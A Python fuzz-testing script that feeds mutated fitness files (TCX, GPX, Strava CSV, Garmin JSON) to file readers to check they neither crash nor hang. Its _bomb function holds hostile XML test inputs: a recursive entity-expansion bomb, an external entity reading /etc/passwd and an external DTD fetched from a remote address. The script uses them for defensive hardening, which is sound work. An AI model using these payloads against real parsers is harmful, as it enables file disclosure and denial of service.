"""Mutated TCX, GPX, Strava lists, Garmin JSON and other XML: no crash, no hang.

Run by hand: python -m tests.bench.fuzz_xml [seconds] [first seed].
"""

import random
import signal
import sys
import time
from collections.abc import Iterator
from datetime import UTC

from connectors.files.garmin_json import GarminAccountReader
from connectors.files.gpx import GpxReader
from connectors.files.strava_csv import StravaCsvReader
from connectors.files.tcx import TcxReader

ALARM_S = 5
READERS = (TcxReader(), GpxReader(), StravaCsvReader(), GarminAccountReader())

_POINT = (
    "<Trackpoint><Time>2026-03-02T17:{m:02d}:{s:02d}Z</Time><Position>"
    "<LatitudeDegrees>0.0</LatitudeDegrees><LongitudeDegrees>0.{m:02d}{s:02d}"
    "</LongitudeDegrees></Position><DistanceMeters>{d}</DistanceMeters>"
    "<HeartRateBpm><Value>140</Value></HeartRateBpm><Extensions><ns3:TPX>"
    "<ns3:Watts>200</ns3:Watts></ns3:TPX></Extensions></Trackpoint>"
)
_TCX = (
    '<?xml version="1.0" encoding="UTF-8"?><TrainingCenterDatabase '
    'xmlns="urn:t" xmlns:ns3="urn:x"><Activities><Activity Sport="Running">'
    '<Id>2026-03-02T17:00:00Z</Id><Lap StartTime="2026-03-02T17:00:00Z">'
    "<TotalTimeSeconds>300</TotalTimeSeconds><DistanceMeters>900</DistanceMeters>"
    "<Calories>60</Calories><Track>{points}</Track></Lap><Notes>Windy</Notes>"
    "<Creator><Name>Watch</Name></Creator></Activity></Activities>"
    "</TrainingCenterDatabase>"
)
_TRKPT = (
    '<trkpt lat="0.0" lon="0.{m:02d}{s:02d}"><ele>10</ele>'
    "<time>2026-03-02T17:{m:02d}:{s:02d}Z</time><extensions><power>200</power>"
    "<g:TrackPointExtension><g:hr>140</g:hr></g:TrackPointExtension></extensions>"
    "</trkpt>"
)
_GPX = (
    '<?xml version="1.0" encoding="UTF-8"?><gpx version="1.1" creator="made" '
    'xmlns="urn:g" xmlns:g="urn:e"><trk><name>Run</name><type>9</type><trkseg>'
    "{points}</trkseg></trk></gpx>"
)
_STRAVA = (
    "Activity ID,Activity Date,Activity Name,Activity Type,Activity Description,"
    "Elapsed Time,Distance,Max Heart Rate,Filename,Elapsed Time,Moving Time,Distance\n"
    + '{n},"Nov 20, 2026, 11:05:00 PM","Evening, wet",Run,,2750,8.04,171,'
    "activities/1.fit.gz,2750.0,2701.0,8046.7\n" * 3
)
_GARMIN = (
    '[{"summarizedActivitiesExport":[{"activityId":1,"activityType":"running",'
    '"beginTimestamp":1772470800000.0,"startTimeLocal":1772474400000.0,'
    '"duration":3000000.0,"distance":1000000.0,"avgHr":151.0,"name":"Run"}]},'
    '{"calendarDate":"2026-03-02","restingHeartRate":50,"deepSleepSeconds":5400,'
    '"metrics":[{"type":"HRV","value":60}],"weight":{"weight":78000}}]'
)
_SPLICES = (
    *(b"<", b">", b"</", b"/>", b"&", b"&#27;", b"&#x0;", b"&amp;", b'"', b"'", b"]]>"),
    *(b"<![CDATA[", b"<!--", b"-->", b"<?", b"\x00", b"\xff\xfe", b"\x1b[31m", b"\xc3"),
    *(b"NaN", b"inf", b"-1e999", b"9" * 5000, b"1_0", b"0x10", "\u0664".encode()),
    *(b"0001-01-01T00:00:00Z", b"9999-12-31T23:59:59+14:00", b"2026-13-45T99:99:99Z"),
    *(
        b"[" * 3000,
        b'{"a":' * 3000,
        b"null",
        b"Infinity",
        b"\\ud800",
        b",",
        b"\n",
        b";",
    ),
    *(b"<a>" * 200, b"<trkpt>", b"<Lap>", b"<Activity>", b"<trk>", b"</trkseg>"),
    *(
        b'xmlns:x="',
        b' encoding="utf-16"',
        b' encoding="punycode"',
        b"<!DOCTYPE a [",
    ),
)
_NAMES = (b"gpx", b"trk", b"trkseg", b"trkpt", b"time", b"Activity", b"Lap", b"Track")
_TAGS = (*_NAMES, b"Trackpoint", b"Time", b"Value", b"TrainingCenterDatabase", b"Id")


def mutants(seed: int) -> Iterator[tuple[str, bytes]]:
    """Names and contents without end, the same for the same seed."""
    rng = random.Random(seed)
    points = [{"m": n // 60, "s": n % 60, "d": 3 * n} for n in range(0, 300, 10)]
    track = "".join(_POINT.format(**each) for each in points)
    segment = "".join(_TRKPT.format(**each) for each in points)
    good = {
        "a.tcx": _TCX.format(points=track).encode(),
        "a.gpx": _GPX.format(points=segment).encode(),
        "export.zip!activities.csv": _STRAVA.format(n=9001).encode(),
        "DI_CONNECT/DI-Connect-Fitness/a_summarizedActivities.json": _GARMIN.encode(),
    }
    while True:
        for name, content in good.items():
            yield name, _mutated(content, rng)
        yield rng.choice(("a.tcx", "a.gpx")), rng.choice(_MADE)(rng)


def _mutated(content: bytes, rng: random.Random) -> bytes:
    """The content with a few places cut, doubled, overwritten or spliced into."""
    for _ in range(rng.choice((1, 1, 2, 3, 8))):
        at = rng.randrange(len(content) + 1)
        length = rng.choice((0, 1, 5, 40, 400))
        part = content[at : at + length]
        put = rng.choice((b"", part * 2, part * 50, rng.choice(_SPLICES), _noise(rng)))
        content = content[:at] + put + content[at + length :]
    if rng.random() < 0.15:
        content = content[: rng.randrange(len(content) + 1)]
    if rng.random() < 0.1:
        encoding = rng.choice(("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"))
        content = content.decode(errors="replace").encode(encoding, errors="replace")
    return content


def _noise(rng: random.Random) -> bytes:
    return rng.randbytes(rng.choice((1, 4, 30)))


def _tree(rng: random.Random) -> bytes:
    """Random tags, mostly well nested."""
    out, open_ = [], []
    for _ in range(rng.randrange(1, 400)):
        if open_ and rng.random() < 0.4:
            out.append(b"</%s>" % open_.pop())
        elif rng.random() < 0.7:
            open_.append(rng.choice(_TAGS))
            out.append(b'<%s lat="%d" StartTime="x">' % (open_[-1], rng.randrange(99)))
        else:
            out.append(rng.choice((b"2026-03-02T17:00:00Z", b"1", *_SPLICES)))
    out += [b"</%s>" % tag for tag in reversed(open_)]
    return b"".join(out)


def _bomb(rng: random.Random) -> bytes:
    """Entities of entities, of other files, and one that is merely long."""
    body = rng.choice((b"<gpx><trk><name>&z;</name></trk></gpx>", b"<a>&z;</a>"))
    tens = b"".join(
        b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12)
    )
    inside = rng.choice(
        (
            b'<!ENTITY e0 "lol">' + tens + b'<!ENTITY z "&e11;">',
            b'<!ENTITY z "' + b"x" * 100_000 + b'">',
            b'<!ENTITY z SYSTEM "file://etc/passwd">',
            b'<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd">%p;',
            b"<!ELEMENT a (b)>",
        )
    )
    return b"<!DOCTYPE gpx [" + inside + b"]>" + body


def _deep(rng: random.Random) -> bytes:
    tag = rng.choice(_TAGS)
    return b"<gpx>" + b"<%s>" % tag * rng.choice((50, 70, 5000)) + b"1"


def _wide(rng: random.Random) -> bytes:
    tag = rng.choice(_TAGS)
    attributes = b"".join(b' a%d="1"' % n for n in range(rng.choice((1, 20_000))))
    return b"<gpx%s>" % attributes + b"<%s/>" % tag * rng.choice((10, 30_000))


_MADE = (_tree, _tree, _tree, _bomb, _deep, _wide)


def _too_slow(_signal: int, _frame: object) -> None:
    raise TimeoutError


def main() -> None:
    """Read mutants for so many seconds; end with 1 at the first that stops a reader."""
    seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 30.0
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 0
    signal.signal(signal.SIGALRM, _too_slow)
    over, count, slowest = time.monotonic() + seconds, 0, 0.0
    for name, content in mutants(seed):
        if time.monotonic() > over:
            break
        for reader in READERS:
            began = time.process_time()
            signal.alarm(ALARM_S)
            try:
                reader.accepts(content, name)
                found = reader.read(content, name, UTC)
            except BaseException:
                print(f"{reader.kind} stopped at mutant {count} of seed {seed}")
                print(repr(content[:2000]))
                raise
            finally:
                signal.alarm(0)
            slowest = max(slowest, time.process_time() - began)
            assert found.recordings or found.metrics or found.issues or found.ignored
        count += 1
    print(f"{count} mutants, {len(READERS)} readers each, slowest {slowest:.2f} s CPU")


if __name__ == "__main__":
    main()
